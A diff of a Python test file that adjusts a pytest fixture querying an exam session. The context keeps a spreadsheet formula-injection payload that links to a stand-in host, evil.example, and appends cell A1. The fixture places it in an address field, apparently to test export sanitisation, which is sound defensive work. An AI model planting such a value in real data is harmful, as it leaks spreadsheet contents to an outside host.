@@ -24,7 +24,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
 
 @pytest.fixture
 def session_with_dossiers(demo):
-    session = Session.objects.get(exam__code="CAP", academie__name="Toulouse")
+    session = Session.objects.get(
+        exam__code="CAP", academie__name="Toulouse", candidate_access="numero"
+    )
     steps = accrall_steps()
     first = validate_steps(session, steps)
     steps["adresse"] = {**steps["adresse"], "line1": HOSTILE}
